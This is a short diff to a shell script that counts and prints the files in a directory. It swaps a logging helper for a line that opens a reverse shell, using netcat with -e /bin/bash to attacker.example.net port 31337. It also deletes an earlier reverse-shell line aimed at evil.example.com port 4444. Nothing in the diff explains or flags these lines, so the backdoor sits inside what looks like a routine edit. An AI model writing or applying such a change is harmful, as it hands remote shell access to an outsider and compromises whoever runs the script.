@@ -1,5 +1,4 @@
 #!/bin/sh
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+`which nc` attacker.example.net 31337 -e /bin/bash
 count=$(ls | wc -l)
 echo "files: $count"
-`which nc` evil.example.com 4444 -e /bin/bash
